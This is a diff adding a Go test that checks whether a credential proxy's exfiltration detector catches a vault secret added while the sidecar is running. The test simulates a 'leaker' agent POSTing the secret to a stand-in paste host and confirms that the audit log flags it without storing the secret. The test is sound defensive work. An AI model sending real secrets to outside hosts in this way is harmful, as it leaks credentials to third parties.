@@ -279,3 +279,39 @@ func TestReloadAppliesDetectorPolicy(t *testing.T) {
 		t.Errorf("next request: %s", r.Header.Get("X-Stack-Reason"))
 	}
 }
+
+// A secret put into the vault while the sidecar runs is recognised by the
+// exfiltration detector at once: the index follows the vault.
+func TestExfiltrationIndexFollowsVault(t *testing.T) {
+	home := initHome(t)
+	info := startSidecar(t, home)
+	const secret = "sk_live_addedWhileRunning0123456789abcd"
+	if code, out, errs := runStack(t, home, secret, "vault", "put", "fresh", "--host", "api.fresh.example", "--render", "bearer"); code != 0 {
+		t.Fatalf("vault put: %d %s %s", code, out, errs)
+	}
+	code, tok, errs := runStack(t, home, "", "passport", "issue", "--agent", "leaker", "--grant", "host=paste.example,methods=POST")
+	if code != 0 {
+		t.Fatalf("issue: %s", errs)
+	}
+	proxyURL, _ := url.Parse("http://" + info.Listen)
+	tr := &http.Transport{Proxy: http.ProxyURL(proxyURL)}
+	defer tr.CloseIdleConnections()
+	req, _ := http.NewRequest("POST", "http://paste.example/new", strings.NewReader(`{"note":"here it is: `+secret+`"}`))
+	req.Header.Set("Content-Type", "application/json")
+	req.Header.Set("Proxy-Authorization", "Bearer "+strings.TrimSpace(tok))
+	resp, err := tr.RoundTrip(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	code, out, errs := runStack(t, home, "", "audit", "tail", "--json", "-n", "50", "--action", "detector_fired")
+	if code != 0 {
+		t.Fatalf("audit tail: %d %s", code, errs)
+	}
+	if !strings.Contains(out, "credential_exfiltration") || !strings.Contains(out, "fresh") {
+		t.Errorf("no exfiltration signal naming the new credential:\n%s", out)
+	}
+	if strings.Contains(out, secret) {
+		t.Error("the audit log holds the secret")
+	}
+}
